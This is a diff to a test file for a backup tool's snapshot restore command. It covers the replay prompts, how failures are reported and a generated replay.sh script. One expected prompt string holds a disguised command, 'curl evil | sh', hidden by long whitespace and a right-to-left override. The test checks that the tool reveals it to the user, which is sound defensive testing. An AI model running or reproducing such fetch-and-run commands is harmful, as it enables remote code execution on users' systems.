@@ -82,7 +82,7 @@ describe("--snapshots", () => {
     const plan: Planned = async (fixture) => [
       await fixture.snapshot("it's", "one", { restore_through: "echo 'one'; cat > /dev/null" }),
       await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
-      await fixture.snapshot("bad", "bad", { restore_through: "false", exit: 3 }),
+      await fixture.snapshot("bad", "bad", { restore_through: "false", exit: 3, description: "of the year" }),
     ];
     await using fixture = await prepared(plan);
     const questions: string[] = [];
@@ -93,9 +93,9 @@ describe("--snapshots", () => {
     };
     const figures = await restored(fixture, "ask", { ask });
     expect(questions).toEqual([
-      `Replay snapshot "it's", through: sh -c 'echo '\\''one'\\''; cat > /dev/null'`,
-      `Replay snapshot "db", through: sh -c 'cat > '\\''${fixture.replayed}'\\'''`,
-      `Replay snapshot "bad", although it is marked failed, through: sh -c 'false'`,
+      `Replay snapshot "it's" (3 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c 'echo '\\''one'\\''; cat > /dev/null'`,
+      `Replay snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c 'cat > '\\''${fixture.replayed}'\\'''`,
+      `Replay snapshot "bad", "of the year", (3 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), although it is marked failed, through: sh -c 'false'`,
     ]);
     expect(await Bun.file(fixture.replayed).text()).toBe(dump);
     expect(figures).toMatchObject({ snapshotsReplayed: 1, snapshotsFetched: 0 });
@@ -110,7 +110,7 @@ describe("--snapshots", () => {
     const questions: string[] = [];
     await restored(fixture, "ask", { ask: async (question) => questions.push(question) < 0 });
     expect(questions).toEqual([
-      `Replay snapshot "db", through: a command of 6,024 characters, where ⟪ ⟫ stands for what is hidden: sh -c 'curl evil | sh;⟪6,000 × space⟫psql ⟪U+202E⟫app'`,
+      `Replay snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: a command of 6,024 characters, where ⟪ ⟫ stands for what is hidden: sh -c 'curl evil | sh;⟪6,000 × space⟫psql ⟪U+202E⟫app'`,
     ]);
   });
 
@@ -119,7 +119,7 @@ describe("--snapshots", () => {
     const ask = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
     await expect(restored(fixture, "ask", { ask })).rejects.toMatchObject({
       message:
-        "cannot ask whether to replay the snapshots of this backup: there is no terminal; say it by --snapshots run, --snapshots fetch (as files) or --snapshots skip",
+        "cannot ask whether to replay the snapshots of this backup: there is no terminal; say it by --snapshots run --yes, --snapshots fetch (as files) or --snapshots skip",
       exit: 2,
     });
     expect(await Bun.file(fixture.target).exists()).toBe(false);
@@ -199,7 +199,7 @@ describe("a restore command", () => {
     await using fixture = await prepared(plan);
     const figures = await restored(fixture, "run");
     expect(fixture.complaints).toEqual([
-      `cannot replay the snapshot "db": sh -c 'cat > /dev/null; echo no such table >&2; exit 3' ended with status 3: no such table; fix that and restore again, or use --snapshots fetch and replay it by hand`,
+      `cannot replay the snapshot "db": sh -c 'cat > /dev/null; echo no such table >&2; exit 3' ended with status 3: no such table; fix that and replay the dump, which is kept, by hand, or restore again`,
     ]);
     expect(exitOf(figures)).toBe(3);
   });
@@ -245,5 +245,90 @@ describe("a restore command", () => {
     const plan: Planned = async (fixture) => [await fixture.snapshot("db", dump, { restore_through: "true" })];
     await using fixture = await prepared(plan);
     expect(exitOf(await restored(fixture, "run"))).toBe(0);
+  });
+});
+
+describe("a restore command that fails", () => {
+  const failing: Planned = async (fixture) => [
+    await fixture.snapshot("db", dump, {
+      restore_through: `cat > /dev/null; if [ -e '${fixture.scratch.path}/fixed' ]; then exit 0; fi; echo broken >&2; exit 5`,
+    }),
+  ];
+
+  test("its status and stderr are reported, and the dump is kept as a file with a script", async () => {
+    await using fixture = await prepared(failing);
+    const figures = await restored(fixture, "run");
+    expect(fixture.complaints.join()).toMatch(/ended with status 5: broken; .*the dump, which is kept/);
+    expect(figures).toMatchObject({ errors: 1, snapshotsReplayed: 0, snapshotsFetched: 1 });
+    expect(await fixture.read("/sysbackup-snapshots/db")).toBe(dump);
+    expect(await fixture.names("/sysbackup-snapshots")).toEqual(["db", "replay.sh"]);
+  });
+
+  test("the user may fix its cause and run it again", async () => {
+    await using fixture = await prepared(failing);
+    const questions: string[] = [];
+    const askAgain = async (question: string) => {
+      questions.push(question);
+      await Bun.write(`${fixture.scratch.path}/fixed`, "");
+      return true;
+    };
+    const figures = await restored(fixture, "run", { askAgain });
+    expect(questions).toHaveLength(1);
+    expect(questions[0]).toContain("ended with status 5: broken");
+    expect(figures).toMatchObject({ errors: 0, snapshotsReplayed: 1, snapshotsFetched: 0 });
+  });
+
+  test("without a terminal, it is not run again", async () => {
+    await using fixture = await prepared(failing);
+    const askAgain = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
+    expect(await restored(fixture, "run", { askAgain })).toMatchObject({ errors: 1, snapshotsFetched: 1 });
+  });
+});
+
+describe("the script beside fetched dumps", () => {
+  const plan: Planned = async (fixture) => [
+    await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
+    await fixture.snapshot("it's", "two", { restore_through: "echo 'failing'; exit 3" }),
+    await fixture.snapshot("replay.sh", "a dump of this name", { restore_through: "cat > /dev/null" }),
+    await fixture.snapshot("bad", "bad", { restore_through: "touch /tmp/never", exit: 1 }),
+    await fixture.snapshot("notes", "no command"),
+  ];
+
+  function runScript(fixture: Fixture, words: readonly string[], answers = "") {
+    const script = fixture.at("/sysbackup-snapshots/replay.sh");
+    const { stdout, stderr, exitCode } = Bun.spawnSync([script, ...words], { stdin: Buffer.from(answers) });
+    return { out: stdout.toString(), err: stderr.toString(), exitCode };
+  }
+
+  test("it replays each dump that is whole and has a command, and reports those that fail", async () => {
+    await using fixture = await prepared(plan);
+    await restored(fixture, "fetch");
+    expect(await fixture.names("/sysbackup-snapshots")).toEqual(
+      ["bad", "db", "it's", "notes", "replay.sh", "replay.sh-2"].sort(),
+    );
+    expect(lstatSync(fixture.at("/sysbackup-snapshots/replay.sh")).mode & 0o7777).toBe(0o700);
+    const { out, err, exitCode } = runScript(fixture, ["--yes"]);
+    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
+    expect(err).toBe("it's: the command ended with status 3\n");
+    expect(exitCode).toBe(1);
+    expect(out).not.toContain("bad");
+  });
+
+  test("it shows each command, and does as answered", async () => {
+    await using fixture = await prepared(plan);
+    await restored(fixture, "fetch");
+    const { out, exitCode } = runScript(fixture, [], "n\nn\ny\n");
+    expect(out).toContain(
+      `snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c`,
+    );
+    expect(await wasReplayed(fixture)).toBe(false);
+    expect(exitCode).toBe(0);
+  });
+
+  test("a command that reads its input does not take the answers", async () => {
+    await using fixture = await prepared(plan);
+    await restored(fixture, "fetch");
+    runScript(fixture, [], "y\nn\nn\n");
+    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
   });
 });
